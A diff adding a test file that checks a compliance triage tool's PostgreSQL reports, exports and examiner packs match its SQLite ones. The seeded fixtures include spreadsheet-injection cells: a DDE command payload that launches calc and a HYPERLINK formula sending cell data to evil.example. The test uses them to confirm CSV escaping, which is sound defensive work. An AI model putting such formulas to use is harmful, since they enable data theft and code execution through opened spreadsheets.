@@ -1,0 +1,339 @@
+// Reports on a PostgreSQL trail give what they give on SQLite: the real engine builds the same history in both stores
+// with the clock frozen (several days, two rule sets, duplicates, quarantine with a repeat and two resolutions,
+// spreadsheet-attack cells, text holding U+0000 and U+FFFF, delivery outcomes written into both outboxes), then the SLA
+// figures, the report's CSV, JSON and PDF, and the examiner pack are compared file by file.
+import { execFileSync } from 'node:child_process'
+import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
+import { join, relative } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { defaultSettings } from '../../src-main/core/config/index.js'
+import { loadRuleSet, type RuleSet } from '../../src-main/core/classify/index.js'
+import type { TriageStore } from '../../src-main/core/ports/triage-store.js'
+import type { ReportSession } from '../../src-main/core/ports/trail.js'
+import { resolveQuarantine } from '../../src-main/core/quarantine/index.js'
+import { buildSlaReport, exportReport, verifyPack, writeExaminerPack, type PackResult } from '../../src-main/core/report/index.js'
+import { executeRun, explicitFiles } from '../../src-main/core/run.js'
+import { PostgresStore } from '../../src-main/store/postgres/index.js'
+import { openPostgresReports } from '../../src-main/store/postgres/reports.js'
+import { toPg } from '../../src-main/store/postgres/text.js'
+import { SqliteStore } from '../../src-main/store/sqlite/index.js'
+import { SqliteTrail } from '../../src-main/store/sqlite/trail.js'
+import { ROOT, tempDir } from '../helpers.js'
+import { createDatabase, pgUnavailable, sql, type TestDatabase } from './pg.js'
+
+const unavailable = await pgUnavailable()
+if (unavailable) console.warn(`test/store/postgres-reports.test.ts skipped: ${unavailable}`)
+
+const HEADER = 'txn_id,customer_id,amount,currency,country,txn_type,risk_score,created_at,branch'
+const COUNTRIES = ['GB', 'DE', 'IR', 'US', 'PA', 'FR', 'NG', 'SG']
+const TYPES = ['wire', 'card', 'cash', 'sepa', 'crypto']
+const cell = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s)
+
+interface Import {
+  at: string
+  rows: number
+  duplicates?: number
+  bad?: number
+  mail?: boolean
+  rules?: 'default' | 'extended'
+}
+
+/** Days around the period 2026-11-02 … 2026-11-05: one import before it and one after, so the segment is inside the chain. */
+const IMPORTS: Import[] = [
+  { at: '2026-11-01T10:00:00.000Z', rows: 30 },
+  { at: '2026-11-02T09:00:00.000Z', rows: 120, duplicates: 6, bad: 3, mail: true },
+  { at: '2026-11-03T12:00:00.000Z', rows: 80, duplicates: 4, mail: true },
+  { at: '2026-11-05T23:30:00.000Z', rows: 60, bad: 2, rules: 'extended' },
+  { at: '2026-11-06T00:30:00.000Z', rows: 20, duplicates: 2, bad: 1 }
+]
+const PERIOD = { from: '2026-11-02T00:00:00.000Z', to: '2026-11-06T00:00:00.000Z' }
+const NOW = new Date('2026-12-01T09:00:00.000Z')
+
+function transactions(tag: string, spec: Import): string {
+  const at = Date.parse(spec.at)
+  const lines = [HEADER]
+  for (let i = 1; i <= spec.rows; i++) {
+    const delayMin = i % 4 ? (i * 13) % 12 : (i * 7919) % 2880 // every fourth waits up to 48 h: breaches in every severity
+    const created = new Date(at - delayMin * 60_000 - (i % 60) * 1000).toISOString()
+    const branch = i === 7 ? 'nul \u0000 inside' : i === 8 ? 'escape \uffff0 and \uffff' : i === 9 ? '+cmd|\' /C calc\'!A0' : i % 3 ? 'London' : 'Zurich, CH'
+    const txn = i === 10 ? '=HYPERLINK("http://evil.example/?x="&A1,"click")' : `T${tag}${String(i).padStart(5, '0')}`
+    lines.push([cell(txn), `C${(i * 31) % 997}`, ((i * 1237) % 90_000).toFixed(2), 'USD', COUNTRIES[i % 8]!, TYPES[i % 5]!, String((i * 37) % 101), created, cell(branch)].join(','))
+  }
+  for (let i = 1; i <= (spec.duplicates ?? 0); i++) lines.push(lines[i]!)
+  for (let i = 1; i <= (spec.bad ?? 0); i++) lines.push(`B${tag}${i},C1,12O${i}.00,USD,GB,wire,10,${spec.at},London`)
+  // The same bad bytes in every file: quarantined once, a repeat afterwards.
+  lines.push('BREPEAT,C1,not-a-number,USD,GB,card,10,2026-11-02T10:00:00Z,x')
+  return `${lines.join('\n')}\n`
+}
+
+function mailbox(tag: string, spec: Import): string {
+  const at = Date.parse(spec.at)
+  const hints = ['critical', 'high', 'medium', 'low', null]
+  const mails: unknown[] = []
+  for (let i = 1; i <= 12; i++)
+    mails.push({
+      message_id: `<${tag}.${i}@vendor.example>`,
+      vendor: 'alerts@vendor.example',
+      subject: i === 3 ? `Sanctions hit \u0000 NUL ${tag}` : i === 4 ? '-2+3 wire to "Acme"' : `Screening alert ${tag}-${i}`,
+      body: i === 3 ? 'body \u0000 \uffff0 x' : `Customer C${i}. Line one\r\nline two.`,
+      severity_hint: hints[i % 5],
+      created_at: new Date(at - ((i * 211) % 2000) * 60_000).toISOString()
+    })
+  mails.push({ message_id: `<${tag}.bad@vendor.example>`, vendor: null, subject: '', body: 'no subject', severity_hint: null, created_at: spec.at })
+  return JSON.stringify(mails, null, 2)
+}
+
+/** The files of every import, written once: both stores read the same bytes from the same paths. */
+function writeImports(dir: string): string[][] {
+  return IMPORTS.map((spec, n) => {
+    const tag = `${n + 1}`
+    const files = [join(dir, `transactions-${tag}.csv`)]
+    writeFileSync(files[0]!, transactions(tag, spec))
+    if (spec.mail) {
+      files.push(join(dir, `mail-${tag}.json`))
+      writeFileSync(files[1]!, mailbox(tag, spec))
+    }
+    return files
+  })
+}
+
+const RULES: Record<'default' | 'extended', RuleSet> = {
+  default: loadRuleSet(join(ROOT, 'resources/rules/default.yaml')),
+  extended: loadRuleSet(join(ROOT, 'resources/rules/example-extended.yaml'))
+}
+
+/** One import into a store at its time (only Date is faked, and it stands still). */
+async function runImport(store: TriageStore, spec: Import, files: string[]) {
+  vi.setSystemTime(new Date(spec.at))
+  const r = await executeRun({ store, settings: defaultSettings(), ruleSet: RULES[spec.rules ?? 'default'], trigger: 'test', parallel: 'never' }, explicitFiles(files))
+  if (r.status !== 'ok') throw new Error(`import at ${spec.at} failed: ${r.errors.join('; ')}`)
+  return r
+}
+
+/** An officer corrects a bad amount and dismisses another record (the ids are the same in both stores). */
+async function resolutions(store: TriageStore, ids: { amount: number; other: number }) {
+  vi.setSystemTime(new Date('2026-11-04T15:00:00.000Z'))
+  const ctx = { store, settings: defaultSettings(), ruleSet: RULES.default }
+  await resolveQuarantine(ctx, { id: ids.amount, by: 'officer', action: 'corrected', fixes: { amount: '1201.00' } })
+  await resolveQuarantine(ctx, { id: ids.other, by: 'officer \u0000', action: 'dismissed', reason: 'a NUL \u0000 row' })
+}
+
+/**
+ * What the dispatcher records, written with the same SQL into both outboxes (the senders are not under test here):
+ * deliveries sent, failed and retrying, dead with a fallback, uncertain with an officer's resolution, and notices.
+ */
+type Exec = (text: string, values: unknown[]) => Promise<void>
+async function deliveryOutcomes(exec: Exec, deliveries: Array<{ entry_id: number; destination: string }>) {
+  const attempt = (id: number, d: string, n: number, result: string, error: string | null) =>
+    exec(`INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error, http_status)
+      VALUES ($1, $2, $3, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', $4, $5, $6)`, [id, d, n, result, error, result === 'sent' ? 200 : null])
+  const set = (id: number, d: string, status: string, attempts: number, error: string | null) =>
+    exec('UPDATE deliveries SET status = $1, attempts = $2, last_error = $3, updated_at = $4 WHERE entry_id = $5 AND destination = $6',
+      [status, attempts, error, '2026-11-05T10:00:01.000Z', id, d])
+  for (const [i, r] of deliveries.entries()) {
+    if (i % 11 === 0 && r.destination.startsWith('slack:')) {
+      for (let a = 1; a <= 3; a++) await attempt(r.entry_id, r.destination, a, a === 3 ? 'dead' : 'retry', 'HTTP 500')
+      await set(r.entry_id, r.destination, 'dead', 3, 'HTTP 500 \u0000 body')
+      await exec(`INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
+        VALUES ($1, $2, 'email', 'email:compliance-leads', 'Slack webhook kept failing (HTTP 500)', '2026-11-05T10:30:00.000Z')`, [r.entry_id, r.destination])
+    } else if (i % 13 === 0) {
+      await attempt(r.entry_id, r.destination, 1, 'uncertain', 'timed out after the request was sent')
+      await set(r.entry_id, r.destination, 'uncertain', 1, 'timed out')
+      await exec(`INSERT INTO delivery_notices (created_at, kind, severity, title, detail, destination, entry_ids)
+        VALUES ('2026-11-05T11:00:00.000Z', 'uncertain', 'high', 'A delivery may not have arrived', 'Check the peer', $1, $2)`, [r.destination, `[${r.entry_id}]`])
+      await exec(`INSERT INTO delivery_resolutions (entry_id, destination, decision, decided_by, decided_at)
+        VALUES ($1, $2, 'confirmed_sent', 'officer', '2026-11-05T12:00:00.000Z')`, [r.entry_id, r.destination])
+    } else if (i % 7 === 0) {
+      await attempt(r.entry_id, r.destination, 1, 'retry', 'connection refused')
+      await set(r.entry_id, r.destination, 'failed', 1, 'connection refused')
+    } else if (i % 5 === 0) {
+      await attempt(r.entry_id, r.destination, 1, 'sent', null)
+      await set(r.entry_id, r.destination, 'sent', 1, null)
+    }
+  }
+}
+
+/** Every file of a folder, by relative path. */
+function filesOf(dir: string): Map<string, Buffer> {
+  const out = new Map<string, Buffer>()
+  const walk = (d: string) => {
+    for (const n of readdirSync(d)) {
+      const p = join(d, n)
+      if (statSync(p).isDirectory()) walk(p)
+      else out.set(relative(dir, p).split('\\').join('/'), readFileSync(p))
+    }
+  }
+  walk(dir)
+  return out
+}
+
+const pdfText = (file: string) => execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' })
+
+describe.skipIf(unavailable !== null)('PostgreSQL report queries', () => {
+  let db: TestDatabase
+  let pgStore: PostgresStore
+  let lite: SqliteStore
+  let pgReports: ReportSession
+  let liteReports: ReportSession
+  const dir = tempDir()
+
+  beforeAll(async () => {
+    db = await createDatabase()
+    const imports = writeImports(dir)
+    pgStore = await PostgresStore.open(db.url)
+    lite = new SqliteStore(join(dir, 'trail.db'))
+    vi.useFakeTimers({ toFake: ['Date'] })
+    try {
+      for (const [n, spec] of IMPORTS.entries()) {
+        const a = await runImport(lite, spec, imports[n]!)
+        const b = await runImport(pgStore, spec, imports[n]!)
+        expect(b).toEqual(a)
+      }
+      const ids = lite.db.prepare("SELECT (SELECT min(id) FROM quarantine WHERE field = 'amount') amount, (SELECT min(id) FROM quarantine WHERE field IS NOT 'amount') other").get() as { amount: number; other: number }
+      await resolutions(lite, ids)
+      await resolutions(pgStore, ids)
+    } finally {
+      vi.useRealTimers()
+    }
+    const deliveries = lite.db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{ entry_id: number; destination: string }>
+    lite.db.exec('BEGIN')
+    await deliveryOutcomes(async (text, values) => {
+      lite.db.prepare(text.replace(/\$\d+/g, '?')).run(...values)
+    }, deliveries)
+    lite.db.exec('COMMIT')
+    await deliveryOutcomes(async (text, values) => {
+      await pgStore.pool.query(text, values.map((v) => (typeof v === 'string' ? toPg(v) : v)))
+    }, deliveries)
+    liteReports = await new SqliteTrail(lite).openReports()
+    pgReports = await openPostgresReports(pgStore.pool)
+  })
+
+  afterAll(async () => {
+    await pgReports?.close()
+    await liteReports?.close()
+    lite?.close()
+    await pgStore?.close()
+    await db?.drop()
+  })
+
+  it('builds the same SLA figures: severities, sources, times to triage, breaches, deliveries, suppression ledger, rule sets, runs', async () => {
+    const a = await buildSlaReport(liteReports.queries, PERIOD, { now: NOW })
+    const b = await buildSlaReport(pgReports.queries, PERIOD, { now: NOW })
+    expect(b).toEqual(a)
+    // The history holds what the comparison is meant to cover.
+    expect(a.entries.range!.first_id).toBeGreaterThan(1)
+    expect(a.breaches.total).toBeGreaterThan(0)
+    expect(a.duplicates.total).toBeGreaterThan(0)
+    expect(a.quarantine).toMatchObject({ repeats: 3, resolutions: { corrected: 1, dismissed: 1 } })
+    expect(a.quarantine.resolutions.shown[1]!.resolved_by).toBe('officer \u0000')
+    expect(a.rulesets).toHaveLength(2)
+    const statuses = new Set(a.deliveries.lines.flatMap((l) => Object.keys(l.by_status)))
+    expect([...statuses]).toEqual(expect.arrayContaining(['sent', 'failed', 'dead', 'uncertain']))
+    expect(a.deliveries.fallbacks).toBeGreaterThan(0)
+    // The same answers whole, method by method, where the report only samples them.
+    for (const [name, call] of Object.entries({
+      duplicateCount: (q: ReportSession['queries']) => q.duplicateCount(PERIOD),
+      quarantineCount: (q: ReportSession['queries']) => q.quarantineCount(PERIOD),
+      duplicates: (q: ReportSession['queries']) => q.duplicates(PERIOD, 1000),
+      quarantine: (q: ReportSession['queries']) => q.quarantine(PERIOD, 1000),
+      resolutionHead: (q: ReportSession['queries']) => q.resolutionHead(),
+      entryLinks: (q: ReportSession['queries']) => q.entryLinks([3, 1, 999_999, 2]),
+      entryBriefs: (q: ReportSession['queries']) => q.entryBriefs([40, 5, 999_999]),
+      rulesets: (q: ReportSession['queries']) => q.rulesets(['nope', ...a.rulesets.map((r) => r.version).reverse()]),
+      deliveryCountsPart: (q: ReportSession['queries']) => q.deliveryCounts(PERIOD, { first_id: 1, last_id: a.entries.range!.last_id }, false)
+    }))
+      expect({ name, rows: await call(pgReports.queries) }).toEqual({ name, rows: await call(liteReports.queries) })
+  })
+
+  it('exports the same report: CSV and JSON byte for byte, the PDF with the same text', async () => {
+    const out = tempDir('triage-pg-report-')
+    for (const [ext, opts] of [['csv', { format: 'csv', bom: true }], ['json', { format: 'json' }], ['pdf', { format: 'pdf', appendix: true }]] as const) {
+      const a = await exportReport(liteReports.queries, PERIOD, join(out, `sqlite.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
+      const b = await exportReport(pgReports.queries, PERIOD, join(out, `pg.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
+      if (ext === 'pdf') {
+        expect(pdfText(b.path)).toBe(pdfText(a.path))
+        expect(pdfText(b.path)).toContain('Example Bank plc')
+      } else {
+        expect(readFileSync(b.path).equals(readFileSync(a.path)), `${ext} differs`).toBe(true)
+        expect(b.sha256).toBe(a.sha256)
+      }
+      expect(b.rows).toBe(a.rows)
+    }
+    const csv = readFileSync(join(out, 'pg.csv'), 'utf8')
+    expect(csv).toContain('Sanctions hit \u0000 NUL')
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
+  })
+
+  it('writes the same examiner pack, which verifies offline and against the live PostgreSQL trail', async () => {
+    const out = tempDir('triage-pg-pack-')
+    const opts = { organisation: 'Example Bank plc', now: NOW }
+    // The clock stands still while both packs are written: then every file is the same, byte for byte.
+    vi.useFakeTimers({ toFake: ['Date'] })
+    vi.setSystemTime(NOW)
+    let a: PackResult, b: PackResult
+    try {
+      a = await writeExaminerPack(liteReports.queries, PERIOD, join(out, 'sqlite'), opts)
+      b = await writeExaminerPack(pgReports.queries, PERIOD, join(out, 'pg'), opts)
+    } finally {
+      vi.useRealTimers()
+    }
+    const fa = filesOf(a.dir)
+    const fb = filesOf(b.dir)
+    expect([...fb.keys()].sort()).toEqual([...fa.keys()].sort())
+    const differ = (x: Map<string, Buffer>, y: Map<string, Buffer>) => [...x.keys()].filter((k) => !x.get(k)!.equals(y.get(k)!)).sort()
+    expect(differ(fa, fb)).toEqual([])
+    expect(b.manifest_sha256).toBe(a.manifest_sha256)
+    // With the clock running, report.pdf differs: pdfkit writes the wall-clock time of the export into its info
+    // (CreationDate) and file id; manifest.json records its SHA-256. Nothing names the source database.
+    const c = await writeExaminerPack(pgReports.queries, PERIOD, join(out, 'pg-clock'), opts)
+    expect(differ(fa, filesOf(c.dir))).toEqual(['manifest.json', 'report.pdf'])
+    expect(pdfText(join(c.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
+    expect(pdfText(join(b.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
+    const strip = (m: PackResult['manifest']) => ({ ...m, files: m.files.map((f) => (f.path === 'report.pdf' ? { path: f.path, description: f.description } : f)) })
+    expect(strip(b.manifest)).toEqual(strip(a.manifest))
+    expect(b.manifest.files.find((f) => f.path === 'audit-entries.csv')!.rows).toBeGreaterThan(200)
+    expect(fb.get('quarantine-resolutions.csv')!.toString('utf8')).toContain('officer \u0000')
+    // Text PostgreSQL keeps escaped comes out as stored in SQLite: U+0000 and U+FFFF in titles, payloads and raw records.
+    const audit = fb.get('audit-entries.csv')!.toString('utf8')
+    for (const t of ['Sanctions hit \u0000 NUL', 'escape \uffff0 and \uffff', 'body \\u0000 \uffff0 x']) expect(audit).toContain(t)
+    expect(fb.get('quarantine.csv')!.toString('utf8')).toContain(Buffer.from('nul \u0000 inside').toString('hex')) // raw_bytes (bytea)
+    expect(fb.get('delivery-attempts.csv')!.toString('utf8')).toContain('uncertain')
+
+    const offline = await verifyPack(b.dir)
+    expect(offline.problems).toEqual([])
+    expect(offline.ok).toBe(true)
+    const live = await verifyPack(b.dir, { live: pgReports.queries })
+    expect(live).toMatchObject({ ok: true, live_checked: true, problems: [] })
+    // …and a pack of another trail is not a piece of this one.
+    const stranger = { entryLinks: async (ids: number[]) => ids.map((id) => ({ id, prev_hash: '0'.repeat(64), hash: '1'.repeat(64) })) }
+    const other = await verifyPack(b.dir, { live: stranger as unknown as ReportSession['queries'] })
+    expect(other.ok).toBe(false)
+  })
+
+  it('reads one snapshot while an engine keeps writing; a stream stopped early leaves the session usable; close() returns the client', async () => {
+    const session = await openPostgresReports(pgStore.pool)
+    const before = await session.queries.chainHead()
+    vi.useFakeTimers({ toFake: ['Date'] })
+    try {
+      const more = join(tempDir('triage-pg-more-'), 'late.csv')
+      writeFileSync(more, transactions('late', { at: '2026-11-04T08:00:00.000Z', rows: 25 }))
+      await runImport(pgStore, { at: '2026-11-04T08:00:00.000Z', rows: 25 }, [more])
+    } finally {
+      vi.useRealTimers()
+    }
+    const now = (await sql<{ count: number }>(db.url, 'SELECT count FROM chain_head'))[0]!.count
+    expect(now).toBeGreaterThan(before.count)
+    expect(await session.queries.chainHead()).toEqual(before)
+    const report = await buildSlaReport(session.queries, PERIOD, { now: NOW })
+    expect(report.chain_head).toEqual(before)
+
+    let seen = 0
+    for await (const _ of session.queries.auditTable({ first_id: 1, last_id: before.last_id }).rows) if (++seen === 3) break
+    expect(seen).toBe(3)
+    expect((await session.queries.entryLinks([1]))[0]!.id).toBe(1)
+    const idle = pgStore.pool.idleCount
+    await session.close()
+    expect(pgStore.pool.idleCount).toBe(idle + 1)
+    await expect(session.queries.chainHead()).rejects.toThrow()
+  })
+})
